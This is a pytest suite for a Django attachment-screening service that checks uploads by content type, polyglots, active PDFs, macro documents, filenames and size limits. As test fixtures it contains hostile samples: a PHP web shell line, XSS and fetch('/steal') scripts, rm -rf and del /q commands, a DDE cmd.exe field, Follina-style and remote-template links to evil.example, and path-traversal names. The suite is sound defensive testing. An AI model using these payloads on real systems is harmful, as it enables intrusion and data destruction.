"""SEC4: one attachment service for every channel — types by content, polyglots, active PDFs and documents, names,
limits. Images: test_attachments_images.py; the real clamd: test_attachments_clamd.py; the citizen's form:
test_attachments_end_to_end.py."""

from __future__ import annotations

import gzip
import io
import logging
import tarfile
import unicodedata
import zipfile
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.core.exceptions import SuspiciousFileOperation
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, assume, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.tickets.attachment_samples import (
    linux_program,
    odt_document,
    pdf,
    png,
    repack,
    upload,
    windows_program,
    word_document,
    zip_archive,
)
from tickets.attachments import CheckedFile, attachment_check, attachments_check, safe_filename
from tickets.errors import AttachmentRejected

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def refusal(data: bytes, name: str = "файл.bin") -> str:
    with pytest.raises(AttachmentRejected) as caught:
        attachment_check(upload(data, name))
    return str(caught.value)


# --- what passes ----------------------------------------------------------------------------------------------


def test_real_documents_pass_and_are_stored_as_received():
    for data, name, content_type in [
        (word_document(), "заявление.docx", DOCX),
        (odt_document(), "заявление.odt", "application/vnd.oasis.opendocument.text"),
        (pdf(), "справка.pdf", "application/pdf"),
        (pdf(object_streams=True), "справка-1.5.pdf", "application/pdf"),
    ]:
        checked = attachment_check(upload(data, name))
        assert (checked.content_type, checked.safe_name, checked.content) == (content_type, name, data)


@pytest.mark.parametrize(
    "text",
    [
        "Не могу войти в личный кабинет.".encode(),
        "Длинное письмо. ".encode() * 1000,  # a Cyrillic letter is cut by any fixed-size look at the head
        "Старый Блокнот сохраняет в Windows-1251.".encode("cp1251"),
        "\ufeffС меткой порядка байтов".encode(),
        b"BMW X5: the first two letters look like a BMP",
        b"MZ-4 form number: and these like a Windows program",
    ],
)
def test_plain_texts_pass_as_text(text):
    checked = attachment_check(upload(text, "письмо.exe"))
    assert (checked.content_type, checked.safe_name, checked.content) == ("text/plain", "письмо.txt", text)


# --- archives and programs, by their bytes -------------------------------------------------------------------


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        zip_archive(),
        b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64,
        b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64,
        gzip.compress(b"hello"),
        _tar(),
    ],
    ids=["zip", "rar", "7z", "gzip", "tar"],
)
def test_archives_are_refused_by_their_magic_whatever_the_name(data):
    assert "архивы (ZIP, RAR, 7z и другие) не принимаются" in refusal(data, "scan.jpg")


@pytest.mark.parametrize("data", [windows_program(), linux_program()], ids=["pe", "elf"])
def test_programs_are_refused(data):
    assert "программы не принимаются" in refusal(data, "photo.png")


def test_unknown_binary_formats_are_refused_with_the_list_of_accepted_ones():
    spreadsheet = zip_archive({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>",
                               "xl/workbook.xml": b"<workbook/>"})
    for data in (b"\x00\x01\x02\x03", spreadsheet):
        assert "подходят изображения (JPG, PNG, GIF, WebP, TIFF), PDF, DOCX, ODT и текст" in refusal(data, "x.xlsx")


# --- polyglots -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (pdf() + zip_archive(), "внутри спрятан архив"),
        (png() + zip_archive(), "внутри спрятан архив"),
        (png() + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32, "внутри спрятан архив"),
        (png() + windows_program(), "внутри спрятана программа"),
        (pdf() + linux_program(), "внутри спрятана программа"),
        (png() + b"<script>fetch('/steal')</script>", "веб-страница или сценарий"),
        (png() + b"<?php system($_GET['c']); ?>", "веб-страница или сценарий"),
        (b"<html><body><script>alert(1)</script></body></html>", "веб-страница или сценарий"),
        (b"Hello <IMG SRC=x onerror=alert(1)>", "веб-страница или сценарий"),
        (b"#!/bin/sh\nrm -rf ~\n", "веб-страница или сценарий"),
        (b"@ECHO OFF\r\ndel /q C:\\*\r\n", "веб-страница или сценарий"),
    ],
)
def test_polyglots_are_refused(data, reason):
    assert reason in refusal(data)


def test_compressed_bytes_that_merely_contain_PK_or_MZ_are_not_mistaken_for_an_archive_or_program():
    # a real PNG whose pixel data happens to hold the two-letter magics of ZIP and Windows programs
    noise = png() + b"PK\x03\x04" + b"\xff" * 26 + b"MZ" + b"\xff" * 80
    assert attachment_check(upload(noise)).content_type == "image/png"


# --- PDFs that act ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pdf(javascript="app.alert('1')"),
        pdf(javascript="app.alert('1')", object_streams=True),  # the action dictionary sits in a deflated stream
        pdf(launch=True),
        pdf(attachment=b"MZ payload"),
        b"%PDF-1.7\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>\nendobj\n%%EOF",
    ],
    ids=["javascript", "javascript-in-object-stream", "launch", "embedded-file", "hex-escaped-name"],
)
def test_pdfs_with_scripts_actions_or_embedded_files_are_refused(data):
    if b"ObjStm" in data:
        assert b"/JavaScript" not in data  # the sample hides it for real
    assert "PDF содержит сценарии, вложенные файлы" in refusal(data, "справка.pdf")


def test_a_pdf_bomb_is_refused(monkeypatch):
    from tickets.attachments import pdf as pdf_checks

    monkeypatch.setattr(pdf_checks, "INFLATE_BUDGET", 1024 * 1024)
    import zlib

    bomb = b"%PDF-1.4\n1 0 obj << /Length 9 /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"\0" * 4_000_000)
    assert "PDF распаковывается в слишком большой объём" in refusal(bomb + b"\nendstream\nendobj\n%%EOF")


# --- DOCX and ODT ----------------------------------------------------------------------------------------------

_FOLLINA_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
    b'Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>'
    b"</Relationships>"
)
_REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>'
)


def _document_xml_with_dde() -> bytes:
    body = word_document()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("word/document.xml")
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
        b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return xml.replace(b"</w:body>", field + b"</w:body>")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (repack(word_document(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}), "макросы"),
        (repack(word_document(), replace={"[Content_Types].xml": zipfile.ZipFile(io.BytesIO(word_document())).read(
            "[Content_Types].xml").replace(b"document.main+xml", b"document.macroEnabled.main+xml")}), "макросы"),
        (repack(odt_document(), add={"Basic/Standard/Module1.xml": b"<script/>"}), "макросы"),
        (repack(odt_document(), add={"Scripts/python/run.py": b"import os"}), "макросы"),
        (repack(word_document(), add={"word/embeddings/oleObject1.bin": windows_program()}), "программы"),
        (repack(word_document(), add={"word/media/payload.exe": b"x"}), "программы"),
        (repack(word_document(), add={"word/embeddings/pack.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                                      + "\x01Ole10Native".encode("utf-16-le")}), "встроенный объект"),
        (repack(word_document(), add={"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE_RELS}), "внешнего источника"),
        (repack(word_document(), replace={"word/_rels/document.xml.rels": _FOLLINA_RELS}), "внешнего источника"),
        (repack(word_document(), replace={"word/document.xml": _document_xml_with_dde()}), "DDE"),
        (repack(odt_document(), replace={"content.xml": zipfile.ZipFile(io.BytesIO(odt_document())).read(
            "content.xml").replace(b"<office:text>", b'<office:text><text:a xmlns:xlink="http://www.w3.org/1999/xlink" '
                                   b'xlink:type="simple" xlink:href="vnd.sun.star.script:../../../program/python.py'
                                   b'$system?language=Python">x</text:a>')}), "внешнего источника"),
        (repack(word_document(), add={"word/embeddings/other.zip": zip_archive()}), "это архив, а не документ"),
        (repack(word_document(), replace={"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a '
                                          b'"aaaa">]><w:document>&a;</w:document>'}), "документ повреждён"),
        (zip_archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
         "это архив, а не документ"),
    ],
    ids=["vba", "macro-content-type", "odf-basic", "odf-scripts", "embedded-pe", "exe-member", "ole-package",
         "remote-template", "follina", "dde", "odf-script-url", "nested-archive", "dtd", "no-package-rels"],
)
def test_dangerous_documents_are_refused(data, reason):
    assert reason in refusal(data, "договор.docx")


def test_a_zip_bomb_dressed_as_a_document_is_refused():
    bomb = repack(word_document(), add={"word/media/zeros.bin": b"\0" * 20_000_000})
    assert "распаковывается в слишком большой объём" in refusal(bomb, "отчёт.docx")


def test_an_odt_with_an_empty_basic_library_passes():
    # LibreOffice writes the library descriptors once the macro editor was opened, even with no macro in them
    doctype = b'<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">'
    container = (b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + b'<library:libraries xmlns:library='
                 b'"http://openoffice.org/2000/library"><library:library library:name="Standard"/></library:libraries>')
    library = (b'<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/'
               b'library" library:name="Standard" library:readonly="false" library:passwordprotected="false"/>')
    data = repack(odt_document(), add={"Basic/script-lc.xml": container, "Basic/Standard/script-lb.xml": library})
    assert attachment_check(upload(data, "a.odt")).content_type == "application/vnd.oasis.opendocument.text"


def test_a_document_with_an_embedded_spreadsheet_passes():
    # a chart's data is an .xlsx inside the .docx: an office package inside a package is what Word writes
    sheet = repack(word_document(), replace={})  # any OOXML package stands in for the workbook
    data = repack(word_document(), add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": sheet})
    assert attachment_check(upload(data, "отчёт.docx")).content_type == DOCX


# --- names -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("C:\\Users\\Иван\\Desktop\\скан.txt", "скан.txt"),
        (".env", "env.txt"),
        ("...скрытый.txt", "скрытый.txt"),
        ("CON.pdf", "file-CON.txt"),
        ("nul.tar.gz", "file-nul.tar.txt"),
        ("com1", "file-com1.txt"),
        ("LPT9 .txt", "file-LPT9.txt"),
        ("счёт\u202efdp.exe", "счётfdp.txt"),  # the right-to-left override that disguises «exe.pdf»
        ("a\x00b\x07c.txt", "abc.txt"),
        ("   ", "file.txt"),
        ("x" * 300 + ".txt", "x" * 80 + ".txt"),
    ],
)
def test_safe_names(name, expected):
    assert safe_filename(name, "txt") == expected


def test_names_are_stored_in_composed_unicode_form():
    decomposed = unicodedata.normalize("NFD", "Заявление на йогурт")
    assert decomposed != unicodedata.normalize("NFC", decomposed)
    assert safe_filename(decomposed, "txt") == unicodedata.normalize("NFC", "Заявление на йогурт") + ".txt"


# --- limits ----------------------------------------------------------------------------------------------------


def test_the_size_limit_counts_the_bytes_not_the_declared_size(settings):
    settings.ATTACHMENT_MAX_BYTES = 1024 * 1024
    assert "больше 1 МБ" in refusal(b"a" * (1024 * 1024 + 1))
    liar = upload(b"b" * (1024 * 1024 + 1), "a.txt")
    liar.size = 10  # a caller (mail, API) may pass what the sender claimed
    with pytest.raises(AttachmentRejected, match="больше 1 МБ"):
        attachment_check(liar)


def test_an_empty_file_is_refused_by_name():
    assert refusal(b"", "пусто.txt") == "Файл «пусто.txt» пустой."


def test_count_and_total_size_limits(settings):
    settings.ATTACHMENT_MAX_COUNT = 2
    with pytest.raises(AttachmentRejected, match="не больше 2 файлов"):
        attachments_check([upload(b"a", "a.txt"), upload(b"b", "b.txt"), upload(b"c", "c.txt")])
    settings.ATTACHMENT_MAX_TOTAL_BYTES = 2 * 1024 * 1024
    with pytest.raises(AttachmentRejected, match="Все файлы вместе — не больше 2 МБ"):
        attachments_check([upload(b"a" * 1024 * 1024, "a.txt"), upload(b"b" * (1024 * 1024 + 1), "b.txt")])
    assert len(attachments_check([upload(b"a", "a.txt"), upload(b"b", "b.txt")])) == 2


def test_the_security_log_names_the_reason_but_never_the_file(caplog):
    with caplog.at_level(logging.INFO, logger="supportdesk.security.attachments"):
        refusal(pdf(javascript="app.alert(1)"), "Иванов_паспорт.pdf")
    line = caplog.records[-1].getMessage()
    assert "reason=pdf_active" in line and "sha256=" in line
    assert "Иванов" not in caplog.text and "паспорт" not in caplog.text


# --- robustness ------------------------------------------------------------------------------------------------


def _upload_or_skip(data: bytes, name: str) -> SimpleUploadedFile:
    try:
        return SimpleUploadedFile(name, data)
    except SuspiciousFileOperation:  # Django refuses the name itself ("..", "/"): never reaches us
        assume(False)
        raise


@hypothesis_settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(min_size=0, max_size=2000), st.text(max_size=60))
def test_any_bytes_and_names_are_accepted_or_refused_with_a_reason(data, name):
    try:
        checked = attachment_check(_upload_or_skip(data, name or "x"))
    except AttachmentRejected as rejected:
        assert str(rejected).strip()
    else:
        assert isinstance(checked, CheckedFile) and checked.content and "/" not in checked.safe_name


_SEEDS = [png(), pdf(), word_document(), odt_document(), gzip.compress(b"x")]


@hypothesis_settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_SEEDS), st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), max_size=8),
       st.integers(0, 10**6))
def test_damaged_real_files_are_accepted_or_refused_with_a_reason(seed, flips, cut):
    """Real files with a few bytes changed and the tail cut off: what reaches parsers deepest."""
    data = bytearray(seed)
    for position, value in flips:
        data[position % len(data)] = value
    data = bytes(data[: max(1, cut % (len(data) + 1))])
    try:
        attachment_check(upload(data, "damaged"))
    except AttachmentRejected as rejected:
        assert str(rejected).strip()


def test_parallel_checks_from_several_channels_agree_with_sequential_ones():
    samples = [png(), pdf(), word_document(), pdf(javascript="x"), zip_archive(), b"text", png() + windows_program()]

    def outcome(data: bytes) -> str:
        try:
            return attachment_check(upload(data, "f")).sha256
        except AttachmentRejected as rejected:
            return str(rejected)

    expected = [outcome(data) for data in samples]
    with ThreadPoolExecutor(max_workers=8) as pool:
        for _ in range(3):
            assert list(pool.map(outcome, samples)) == expected
